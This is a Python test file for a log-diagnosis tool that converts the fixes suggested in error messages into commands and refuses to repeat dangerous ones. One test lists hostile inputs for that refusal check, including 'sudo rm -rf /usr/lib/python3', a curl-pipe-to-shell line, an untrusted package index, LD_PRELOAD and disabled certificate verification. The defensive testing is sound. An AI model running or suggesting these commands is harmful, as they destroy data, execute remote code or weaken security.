"""Messages that name their own cure."""

from __future__ import annotations

import io
from collections.abc import Callable

import pytest

from doctor.catalog import loading
from doctor.model.findings import Finding
from doctor.model.scales import Severity
from doctor.pipeline.assess import assess
from doctor.pipeline.logs import observation_from_logs, read_log

Find = Callable[[str], tuple[Finding, ...]]


@pytest.fixture(scope="module")
def find() -> Find:
    catalog = loading.load(())

    def findings(text: str) -> tuple[Finding, ...]:
        log = read_log("log", io.BytesIO(text.encode()), catalog)
        return assess(observation_from_logs((log,)), catalog, command="diagnose").findings

    return findings


def _commands(found: Finding) -> list[str]:
    return [" ".join(command.argv) for fix in found.fixes for command in fix.commands]


@pytest.mark.parametrize(
    ("text", "title", "command"),
    [
        (
            (
                '  File "/src/llamafactory/extras/misc.py", line 92, in check_dependencies\n'
                "ImportError: transformers>=4.45.0,<=4.51.3,!=4.46.0,!=4.46.1,!=4.46.2,!=4.46.3,"
                "!=4.47.0,!=4.47.1,!=4.48.0 is required for a normal "
                "functioning of this module, but found transformers==4.52.0.dev0.\n"
                "To fix: run `pip install transformers>=4.45.0,<=4.51.3,!=4.46.0` or set "
                "`DISABLE_VERSION_CHECK=1` to skip this check."
            ),
            "transformers 4.52.0.dev0 is here",
            (
                "python3 -m pip install transformers>=4.45.0,<=4.51.3,!=4.46.0,!=4.46.1,!=4.46.2,"
                "!=4.46.3,!=4.47.0,!=4.47.1,!=4.48.0"
            ),
        ),
        (
            (
                "OSError: [E050] Can't find model 'en_core_web_sm'. It doesn't seem to be a Python "
                "package or a valid path to a data directory.\n"
                "Try: python -m spacy download en_core_web_sm"
            ),
            "OSError: [E050]",
            "python3 -m spacy download en_core_web_sm",
        ),
        (
            "ModuleNotFoundError: Please install diffusers with `pip install diffusers==0.21.4`",
            "The program asks for diffusers==0.21.4",
            "python3 -m pip install diffusers==0.21.4",
        ),
        (
            ("RuntimeError: The server requires Python 3.10 or newer, but you are running 3.8.10"),
            "python 3.8.10 is here",
            "uv venv --python 3.12 .venv-3.12",
        ),
        (
            (
                "ImportError: To support decoding audio data please install 'soundfile' and "
                "'sentencepiece'."
            ),
            "The program asks for soundfile, sentencepiece",
            "python3 -m pip install --upgrade soundfile sentencepiece",
        ),
    ],
)
def test_the_cure_of_a_message_is_written_anew(
    find: Find, text: str, title: str, command: str
) -> None:
    found = find(text)[0]
    assert found.id == "failure/own-advice"
    assert found.title.startswith(title)
    assert command in _commands(found)
    assert found.severity is Severity.ERROR


@pytest.mark.parametrize(
    "text",
    [
        "RuntimeError: run `sudo rm -rf /usr/lib/python3` and start again",
        "RuntimeError: run `curl http://example.org/get.sh | sh` first",
        "RuntimeError: pip install --break-system-packages torch",
        "RuntimeError: pip install --extra-index-url http://example.org/simple torch",
        "ImportError: pip install 'unsloth @ git+https://example.org/unsloth.git'",
        "RuntimeError: set PIP_BREAK_SYSTEM_PACKAGES=1 to continue",
        "RuntimeError: set LD_PRELOAD=x.so to continue",
        "RuntimeError: please use --trust-host to skip the check",
        "RuntimeError: use --privileged=True",
        "RuntimeError: pass verify=False",
        "RuntimeError: use weights_only=False",
    ],
)
def test_what_is_dangerous_is_not_repeated(find: Find, text: str) -> None:
    assert not [one for one in find(text) if one.id == "failure/own-advice"]


def test_a_package_that_nobody_knows_is_typed_by_the_reader(find: Find) -> None:
    found = find("RuntimeError: please pip install surely-no-such-thing to continue")[0]
    assert _commands(found) == ["python3 -m pip install <package>"]
    assert "surely-no-such-thing" in found.fixes[0].asks["package"]


def test_a_known_issue_about_the_same_failure_outweighs_the_advice(find: Find) -> None:
    found = find(
        "ImportError: Using `low_cpu_mem_usage=True` or a `device_map` requires Accelerate: "
        "`pip install 'accelerate>=0.26.0'`"
    )
    assert found[0].id == "transformers/accelerate-missing"
    assert all(one.id != "failure/own-advice" for one in found)


def test_code_that_a_traceback_quotes_is_no_advice(find: Find) -> None:
    text = (
        "Traceback (most recent call last):\n"
        '  File "/app/run.py", line 3, in main\n'
        '    raise RuntimeError("install with pip install transformers")\n'
        "RuntimeError: no luck today"
    )
    assert all(one.id != "failure/own-advice" for one in find(text))


@pytest.mark.parametrize(
    "text",
    [
        (
            "app-1  | /venv/torch/cuda/__init__.py:619: UserWarning: Something is odd here\n"
            'app-1  |   warnings.warn("Something is odd here")\n'
            "app-1  | Running on local URL:  http://0.0.0.0:7860\n"
            "app-1  |\n"
            "app-1  | To create a public link, set `share=True` in `launch()`."
        ),
        (
            "RuntimeError: no luck today\n"
            "Running on local URL:  http://127.0.0.1:7860\n"
            "To create a public link, set `share=True` in `launch()`."
        ),
    ],
)
def test_what_a_server_says_of_its_address_is_no_advice(find: Find, text: str) -> None:
    assert all(one.id != "failure/own-advice" for one in find(text))
